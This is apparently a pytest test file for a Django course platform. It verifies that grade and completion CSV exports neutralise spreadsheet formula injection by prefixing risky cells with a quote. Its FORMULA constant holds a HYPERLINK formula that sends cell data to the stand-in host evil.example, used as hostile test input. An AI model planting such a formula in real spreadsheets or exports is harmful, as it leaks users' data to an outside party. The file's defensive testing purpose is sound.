"""A spreadsheet never runs what a user typed: every CSV export (the gradebook from the admin and
from `manage.py export_grades`, the API's completion report) writes a cell that starts with =, +, -,
@, a tab or a carriage return behind a single quote (OWASP's advice for CSV injection)."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from courses import services
from courses.csv_writer import safe_cell
from courses.models import Subscription
from lms_site.testing import content as w
from lms_site.testing.api import client_for

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Carol Chen", "Carol Chen"),
        ("", ""),
        (-3, -3),  # a number is data, never a formula
        (0.5, 0.5),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(value, written):
    assert safe_cell(value) == written


@pytest.fixture
def hostile(cs101, django_user_model):
    """A course titled like a formula, a student named like one, with a grade."""
    cs101.title = "+1"
    cs101.save()
    student = django_user_model.objects.create_user(
        username="@mallory", password="pw", first_name=FORMULA, last_name="", role="student"
    )
    Subscription.objects.create(student=student, course=cs101)
    w.lesson(w.module(cs101), title="-Intro")
    assignment = w.assignment_lesson(w.module(cs101, title="Week 2", position=1), title="=Essay", max_points=10)
    submission = services.submit_assignment(student=student, assignment=assignment, text="essay")
    submission.record_grade(points=7, feedback="ok", grader=cs101.instructor)
    return cs101


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_neutralised(text: str, *expected: str) -> None:
    found = cells(text)
    for value in expected:
        assert "'" + value in found, (value, found)
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in found), found


def test_export_grades_neutralises_formulas(hostile, capsys):
    call_command("export_grades", "CS101")
    assert_neutralised(capsys.readouterr().out, FORMULA, "@mallory")


def test_the_admins_gradebook_download_and_action_neutralise_formulas(client, alice, hostile):
    client.force_login(alice)
    download = client.get(reverse("admin:courses_gradebook_csv", args=[hostile.pk]))
    assert_neutralised(download.content.decode(), FORMULA, "@mallory")
    action = client.post(
        reverse("admin:courses_gradebook_changelist"), {"action": "export_csv", "_selected_action": [hostile.pk]}
    )
    assert_neutralised(action.content.decode(), FORMULA, "@mallory")


def test_the_completion_report_csv_neutralises_formulas(alice, hostile):
    alice.username = "@alice"  # the report names the instructor by username
    alice.save()
    response = client_for(alice).get("/api/v1/admin/reports/course-completion", {"format": "csv"})
    assert response.status_code == 200
    assert_neutralised(response.content.decode(), "+1", "@alice")
